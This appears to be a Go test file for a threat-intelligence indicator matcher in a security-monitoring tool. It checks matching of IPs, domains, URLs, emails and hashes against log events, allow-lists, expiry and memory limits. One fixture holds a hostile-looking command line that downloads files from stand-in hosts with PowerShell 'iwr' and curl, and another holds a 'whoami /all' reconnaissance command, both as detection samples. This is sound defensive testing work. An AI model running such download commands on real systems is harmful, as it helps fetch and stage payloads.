package intel_test

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vedette-soc/vedette"
	"github.com/vedette-soc/vedette/internal/intel"
)

var noon = time.Date(2026, 3, 9, 12, 0, 0, 0, time.UTC)

func at(t time.Time) func() time.Time { return func() time.Time { return t } }

// known makes an indicator that is live at noon.
func known(t testing.TB, kind vedette.IndicatorKind, value string) vedette.Indicator {
	t.Helper()
	kind, normal, err := intel.Normal(kind, value)
	if err != nil {
		t.Fatal(err)
	}
	return vedette.Indicator{ID: intel.IndicatorID(kind, normal), Kind: kind, Value: normal, Base: 80, Severity: vedette.High,
		Feeds: []string{"test"}, Labels: []string{"malware"}, Subdomains: kind == vedette.IndicatorDomain,
		Asserted: noon, ValidUntil: noon.Add(24 * time.Hour), TLP: vedette.TLPAmber}
}

func event(fields ...string) *vedette.Event {
	ev := &vedette.Event{Tenant: "default", Seq: 7, Place: 3, Time: noon, Received: noon, Source: "s", Dataset: "d"}
	for i := 0; i+1 < len(fields); i += 2 {
		ev.Add(fields[i], fields[i+1])
	}
	return ev
}

func matched(m *intel.Matcher, ev *vedette.Event) []string {
	var values []string
	m.Match(ev, func(a vedette.Alert) { values = append(values, string(a.Indicator.Kind)+" "+a.Indicator.Value) })
	slices.Sort(values)
	return values
}

func TestEachKindIsFoundWhereItStands(t *testing.T) {
	m := intel.NewMatcher(intel.MatcherConfig{Now: at(noon)})
	sha256 := strings.Repeat("ab", 32)
	m.Put([]vedette.Indicator{
		known(t, vedette.IndicatorAddress, "203.0.113.9"), known(t, vedette.IndicatorAddress, "2001:DB8::0:1"),
		known(t, vedette.IndicatorNetwork, "198.51.100.0/24"), known(t, vedette.IndicatorNetwork, "198.51.0.0/16"),
		known(t, vedette.IndicatorDomain, "Evil.Example."), known(t, vedette.IndicatorURL, "hxxp://Bad[.]example:80/a%41?x=1"),
		known(t, vedette.IndicatorURL, "http://plain.example/drop"),
		known(t, vedette.IndicatorEmail, "Mallory@Evil.example"), known(t, vedette.IndicatorMD5, strings.Repeat("0A", 16)),
		known(t, vedette.IndicatorSHA1, strings.Repeat("0b", 20)), known(t, vedette.IndicatorSHA256, sha256),
		known(t, vedette.IndicatorSHA512, strings.Repeat("cd", 64)), known(t, vedette.IndicatorImphash, strings.Repeat("0A", 16)),
	})
	for _, c := range []struct {
		fields []string
		want   string
	}{
		{[]string{"source.ip", "203.0.113.9"}, "address 203.0.113.9"},
		{[]string{"destination.ip", "::ffff:203.0.113.9"}, "address 203.0.113.9"},
		{[]string{"destination.ip", "2001:0db8:0:0::1"}, "address 2001:db8::1"},
		{[]string{"destination.ip", "203.0.113.90"}, ""},
		{[]string{"destination.ip", "203.0.113.09"}, ""},
		{[]string{"source.ip", "198.51.100.7"}, "network 198.51.0.0/16,network 198.51.100.0/24"},
		{[]string{"source.ip", "198.51.99.7"}, "network 198.51.0.0/16"},
		{[]string{"dns.question.name", "EVIL.example."}, "domain evil.example"},
		{[]string{"dns.question.name", "a.b.evil.example"}, "domain evil.example"},
		{[]string{"dns.question.name", "notevil.example"}, ""},
		{[]string{"dns.question.name", "evil.example.com"}, ""},
		{[]string{"dns.answers.data", "203.0.113.9", "dns.answers.data", "www.evil.example"}, "address 203.0.113.9,domain evil.example"},
		{[]string{"url.full", "http://bad.EXAMPLE/aA?x=1#frag"}, "url http://bad.example/aA?x=1"},
		{[]string{"url.full", "http://bad.example/aA?x=2"}, ""},
		{[]string{"url.full", "http://plain.example/drop?id=5"}, "url http://plain.example/drop"},
		{[]string{"url.domain", "plain.example", "url.original", "/drop"}, "url http://plain.example/drop"},
		{[]string{"url.full", "https://u:p@x.evil.example:8443/"}, "domain evil.example"},
		{[]string{"url.full", "http://[2001:db8::1]/"}, "address 2001:db8::1"},
		{[]string{"process.command_line", `powershell iwr "http://plain.example/drop" -o x; curl ftp://203.0.113.9/f`}, "address 203.0.113.9,url http://plain.example/drop"},
		{[]string{"email.from.address", "mallory@evil.example"}, "domain evil.example,email mallory@evil.example"},
		{[]string{"user.email", "MALLORY@evil.example"}, "email mallory@evil.example"},
		{[]string{"file.hash.sha256", strings.ToUpper(sha256)}, "sha256 " + sha256},
		{[]string{"process.hash.md5", strings.Repeat("0a", 16)}, "md5 " + strings.Repeat("0a", 16)},
		{[]string{"process.hash.imphash", strings.Repeat("0a", 16)}, "imphash " + strings.Repeat("0a", 16)},
		{[]string{"src.Hashes", "SHA1=" + strings.Repeat("0B", 20) + ",MD5=" + strings.Repeat("00", 16) + ",SHA512=" + strings.Repeat("CD", 64)},
			"sha1 " + strings.Repeat("0b", 20) + ",sha512 " + strings.Repeat("cd", 64)},
		{[]string{"message", "203.0.113.9"}, ""},
		{[]string{"source.ip", "", "url.full", "://", "dns.question.name", strings.Repeat("a.", 5000)}, ""},
	} {
		if got := strings.Join(matched(m, event(c.fields...)), ","); got != c.want {
			t.Errorf("%q: found %q, want %q", c.fields, got, c.want)
		}
	}
}

func TestAnAlertTellsItsIndicator(t *testing.T) {
	m := intel.NewMatcher(intel.MatcherConfig{Now: at(noon.Add(time.Hour)), Entities: func(*vedette.Event) []vedette.EntityRef {
		return []vedette.EntityRef{{Kind: vedette.EntityHost, Name: "h"}}
	}})
	in := known(t, vedette.IndicatorAddress, "203.0.113.9")
	in.Labels = []string{"malware", "phase:command-and-control", "T1071.001"}
	m.Put([]vedette.Indicator{in})
	var alerts []vedette.Alert
	ev := event("source.ip", "10.0.0.1", "destination.ip", "203.0.113.9", "server.ip", "203.0.113.9")
	m.Match(ev, func(a vedette.Alert) { alerts = append(alerts, a) })
	m.Match(ev, func(a vedette.Alert) { alerts = append(alerts, a) })
	if len(alerts) != 2 || alerts[0].ID != alerts[1].ID {
		t.Fatalf("%d alerts, want the same one each time", len(alerts))
	}
	a := alerts[0]
	if a.RuleID != "indicator:address" || a.RuleTitleZh == "" || a.EventID != "7-3" || a.Severity != vedette.High || len(a.Matched) != 2 || len(a.Entities) != 1 {
		t.Errorf("%+v", a)
	}
	if s := a.Indicator; s.Field != "destination.ip" || s.Confidence != 80 || s.TLP != vedette.TLPAmber || s.IndicatorID != in.ID || s.Feeds[0] != "test" || !s.ValidUntil.Equal(in.ValidUntil) {
		t.Errorf("%+v", s)
	}
	if a.Techniques[0] != "T1071.001" || a.Tactics[0] != "command-and-control" {
		t.Errorf("techniques %v, tactics %v", a.Techniques, a.Tactics)
	}
	m.Match(event("source.ip", "203.0.113.9"), func(a vedette.Alert) {
		if a.Severity != vedette.Medium {
			t.Errorf("a knock at the door has severity %s", a.Severity)
		}
	})
}

func TestWhatMustNotFireDoesNot(t *testing.T) {
	clock := noon
	m := intel.NewMatcher(intel.MatcherConfig{Now: func() time.Time { return clock }})
	m.Allow([]vedette.Allowance{{Kind: "network", Value: "203.0.113.0/28", Reason: "ours"}, {Kind: "domain", Value: "good.evil.example", Reason: "ours"}})
	one := known(t, vedette.IndicatorAddress, "192.0.2.1")
	later := known(t, vedette.IndicatorAddress, "192.0.2.2")
	later.ValidFrom = noon.Add(time.Hour)
	faint := known(t, vedette.IndicatorAddress, "192.0.2.3")
	faint.Base = 10
	revoked := known(t, vedette.IndicatorAddress, "192.0.2.4")
	revoked.State = vedette.IndicatorRevoked
	m.Put([]vedette.Indicator{one, later, faint, revoked, known(t, vedette.IndicatorAddress, "203.0.113.1"),
		known(t, vedette.IndicatorNetwork, "203.0.113.0/24"), known(t, vedette.IndicatorDomain, "evil.example")})
	check := func(field, value, want string) {
		t.Helper()
		if got := strings.Join(matched(m, event(field, value)), ","); got != want {
			t.Errorf("%s at %s: found %q, want %q", value, clock.Format(time.TimeOnly), got, want)
		}
	}
	check("source.ip", "192.0.2.1", "address 192.0.2.1")
	check("source.ip", "192.0.2.2", "")
	check("source.ip", "192.0.2.3", "")
	check("source.ip", "192.0.2.4", "")
	check("source.ip", "203.0.113.1", "") // allowed itself, and within the network
	check("source.ip", "203.0.113.99", "network 203.0.113.0/24")
	check("dns.question.name", "x.evil.example", "domain evil.example")
	check("dns.question.name", "good.evil.example", "")
	clock = noon.Add(24*time.Hour - time.Second)
	check("source.ip", "192.0.2.1", "address 192.0.2.1")
	check("source.ip", "192.0.2.2", "address 192.0.2.2")
	clock = noon.Add(24 * time.Hour)
	check("source.ip", "192.0.2.1", "")
	if gone := m.Sweep(); gone != 6 || m.Stats().Indicators != 0 || m.Stats().Networks != 0 {
		t.Errorf("%d swept, %+v left", gone, m.Stats())
	}
}

// TestMatcherEqualsNaive compares the matcher with a plain walk over all indicators, on random indicators and events
// that share a small world of values.
func TestMatcherEqualsNaive(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	for round := range 60 {
		m := intel.NewMatcher(intel.MatcherConfig{Now: at(noon)})
		have := map[string]vedette.Indicator{}
		for range 1 + r.IntN(4) {
			var batch []vedette.Indicator
			for range r.IntN(40) {
				kind, value := randomValue(r)
				kind, value, err := intel.Normal(kind, value)
				if err != nil {
					continue
				}
				in := known(t, kind, value)
				in.Subdomains = in.Subdomains && r.IntN(3) > 0
				in.Base = r.IntN(101)
				in.ValidUntil = noon.Add(time.Duration(r.IntN(5)-1) * time.Hour)
				in.ValidFrom = noon.Add(time.Duration(r.IntN(4)-2) * time.Hour)
				in.Asserted = noon.Add(-time.Duration(r.IntN(60)) * 24 * time.Hour)
				if r.IntN(10) == 0 {
					in.Feeds = nil // taken out
				}
				batch = append(batch, in)
				have[in.ID] = in
			}
			m.Put(batch)
		}
		for range 50 {
			kind, value := randomValue(r)
			field := fieldFor(r, kind)
			ev := event(field, value)
			if got, want := matched(m, ev), naive(have, field, value); !slices.Equal(got, want) {
				t.Fatalf("round %d: %s=%s: matcher %v, naive %v", round, field, value, got, want)
			}
		}
	}
}

func randomValue(r *rand.Rand) (vedette.IndicatorKind, string) {
	switch r.IntN(6) {
	case 0:
		return vedette.IndicatorAddress, fmt.Sprintf("203.0.%d.%d", r.IntN(2), r.IntN(4))
	case 1:
		return vedette.IndicatorNetwork, fmt.Sprintf("203.0.%d.%d/%d", r.IntN(2), r.IntN(4), 8+r.IntN(25))
	case 2:
		return vedette.IndicatorDomain, []string{"", "a.", "b.a.", "ab."}[r.IntN(4)] + []string{"x.test", "y.test", "x.y.test"}[r.IntN(3)]
	case 3:
		return vedette.IndicatorURL, "http://" + []string{"x.test", "X.test:80", "y.test"}[r.IntN(3)] + []string{"", "/", "/a", "/a?b"}[r.IntN(4)]
	case 4:
		return vedette.IndicatorEmail, []string{"a@", "B@"}[r.IntN(2)] + []string{"x.test", "a.x.test"}[r.IntN(2)]
	}
	return vedette.IndicatorMD5, strings.Repeat(fmt.Sprintf("%02X", r.IntN(4)), 16)
}

func fieldFor(r *rand.Rand, kind vedette.IndicatorKind) string {
	switch kind {
	case vedette.IndicatorAddress, vedette.IndicatorNetwork:
		return []string{"source.ip", "dns.answers.data"}[r.IntN(2)]
	case vedette.IndicatorDomain:
		return []string{"dns.question.name", "url.domain"}[r.IntN(2)]
	case vedette.IndicatorURL:
		return "url.full"
	case vedette.IndicatorEmail:
		return "email.from.address"
	}
	return "file.hash.md5"
}

// naive says what should be found, as plainly as it can.
func naive(have map[string]vedette.Indicator, field, value string) []string {
	policy := intel.DefaultPolicy()
	var found []string
	for _, in := range have {
		if len(in.Feeds) == 0 || !in.ValidUntil.After(noon) || in.ValidFrom.After(noon) ||
			policy.Confidence(in.Kind, in.Base, noon.Sub(in.Asserted)) < policy.CutOff {
			continue
		}
		if holds(in, field, value) {
			found = append(found, string(in.Kind)+" "+in.Value)
		}
	}
	slices.Sort(found)
	return found
}

func holds(in vedette.Indicator, field, value string) bool {
	host := strings.ToLower(value)
	whole := ""
	switch field {
	case "url.full":
		_, whole, _ = intel.Normal(vedette.IndicatorURL, value)
		host, _, _ = strings.Cut(strings.TrimPrefix(whole, "http://"), "/")
	case "email.from.address":
		host = host[strings.Index(host, "@")+1:]
	}
	addr, addrErr := netip.ParseAddr(host)
	switch in.Kind {
	case vedette.IndicatorAddress:
		return addrErr == nil && addr.String() == in.Value
	case vedette.IndicatorNetwork:
		return addrErr == nil && netip.MustParsePrefix(in.Value).Contains(addr)
	case vedette.IndicatorDomain:
		return addrErr != nil && (host == in.Value || in.Subdomains && strings.HasSuffix(host, "."+in.Value))
	case vedette.IndicatorURL:
		bare, _, _ := strings.Cut(whole, "?")
		return whole == in.Value || bare == in.Value && bare != ""
	}
	return strings.ToLower(value) == in.Value
}

// million makes indicators of the kinds and in the proportions that feeds have: a third each of addresses, names and
// hashes.
func million(n int) []vedette.Indicator {
	list := make([]vedette.Indicator, 0, n)
	r := rand.New(rand.NewPCG(3, 4))
	for i := range n {
		in := vedette.Indicator{Base: 75, Severity: vedette.High, Feeds: []string{fmt.Sprint("feed-", i%7)}, Labels: []string{"malware", fmt.Sprint("family-", i%500)},
			Asserted: noon, ValidUntil: noon.Add(30 * 24 * time.Hour)}
		switch i % 6 {
		case 0, 1:
			in.Kind, in.Value = vedette.IndicatorAddress, netip.AddrFrom4([4]byte{byte(20 + i%150), byte(r.Uint32()), byte(r.Uint32()), byte(r.Uint32())}).String()
		case 2:
			in.Kind, in.Value, in.Subdomains = vedette.IndicatorDomain, fmt.Sprintf("host%d.domain%x.test", i%10, r.Uint64()), true
		case 3:
			in.Kind, in.Value = vedette.IndicatorURL, fmt.Sprintf("http://h%x.test/path/%d/file.exe", r.Uint64(), i)
		case 4:
			in.Kind, in.Value = vedette.IndicatorSHA256, fmt.Sprintf("%016x%016x%016x%016x", r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64())
		default:
			in.Kind, in.Value = vedette.IndicatorMD5, fmt.Sprintf("%016x%016x", r.Uint64(), r.Uint64())
		}
		list = append(list, in)
	}
	return list
}

func networks(n int) []vedette.Indicator {
	var list []vedette.Indicator
	for i := range n {
		list = append(list, vedette.Indicator{Kind: vedette.IndicatorNetwork, Value: fmt.Sprintf("%d.%d.%d.0/24", 20+i%150, i/150%256, i/38400), Base: 75,
			Feeds: []string{"n"}, Asserted: noon, ValidUntil: noon.Add(30 * 24 * time.Hour)})
	}
	return list
}

func heap() int64 {
	runtime.GC()
	runtime.GC()
	var st runtime.MemStats
	runtime.ReadMemStats(&st)
	return int64(st.HeapAlloc)
}

// TestAMillionIndicatorsAreSmall measures what a million indicators take. The bound is 200 MB.
func TestAMillionIndicatorsAreSmall(t *testing.T) {
	if testing.Short() {
		t.Skip("a million indicators take some seconds")
	}
	m := intel.NewMatcher(intel.MatcherConfig{Now: at(noon)})
	before := heap()
	list := million(1_000_000)
	for from := 0; from < len(list); from += 100_000 {
		m.Put(list[from : from+100_000])
	}
	m.Put(networks(20_000))
	count := m.Stats().Indicators
	after := heap()
	t.Logf("%d indicators take %.1f MiB of heap, %.1f MiB by their own count", count, float64(after-before)/(1<<20), float64(m.Stats().Bytes)/(1<<20))
	if count < 1_000_000 {
		t.Errorf("only %d are there", count)
	}
	if after-before > 200_000_000 {
		t.Errorf("a million indicators take %d bytes", after-before)
	}
	runtime.KeepAlive(m)
}

// missing is an event such as a proxy or a sensor writes, that holds nothing known.
func missing() []*vedette.Event {
	return []*vedette.Event{
		event("event.kind", "event", "event.category", "network", "host.name", "fw", "source.ip", "10.2.3.4", "source.port", "51234", "destination.ip", "142.250.1.100",
			"destination.port", "443", "network.transport", "tcp", "network.bytes", "4711", "tls.client.server_name", "www.some-long-name.static.example", "rule.name", "allow",
			"url.full", "https://www.some-long-name.static.example/a/path?with=query", "http.request.method", "GET"),
		event("event.code", "1", "host.name", "ws07", "process.executable", `C:\Windows\System32\cmd.exe`, "process.command_line", `cmd /c whoami /all`, "user.name", "ann",
			"process.hash.md5", "00112233445566778899AABBCCDDEEFF", "process.hash.sha256", strings.Repeat("00112233445566778899AABBCCDDEEFF", 2),
			"process.parent.executable", `C:\Windows\explorer.exe`, "src.Hashes", "MD5=00112233445566778899AABBCCDDEEFF,SHA256="+strings.Repeat("00112233445566778899AABBCCDDEEFF", 2)),
		event("host.name", "resolver", "source.ip", "10.9.8.7", "dns.question.name", "a.b.cdn.some-provider.example", "dns.question.type", "A", "dns.answers.data", "142.250.9.9", "dns.answers.data", "edge.some-provider.example"),
	}
}

func TestAMissAllocatesNothing(t *testing.T) {
	m := intel.NewMatcher(intel.MatcherConfig{Now: at(noon)})
	m.Put(million(10_000))
	m.Put(networks(1_000))
	events := missing()
	got := testing.AllocsPerRun(200, func() {
		for _, ev := range events {
			m.Match(ev, func(vedette.Alert) { t.Error("found something") })
		}
	})
	if got != 0 {
		t.Errorf("%v allocations for three events", got)
	}
}

func BenchmarkMiss(b *testing.B) {
	m := intel.NewMatcher(intel.MatcherConfig{Now: at(noon)})
	m.Put(million(1_000_000))
	m.Put(networks(20_000))
	for i, name := range []string{"proxy", "sysmon", "dns"} {
		b.Run(name, func(b *testing.B) {
			ev := missing()[i]
			b.ReportAllocs()
			for b.Loop() {
				m.Match(ev, func(vedette.Alert) { b.Error("found something") })
			}
		})
	}
}
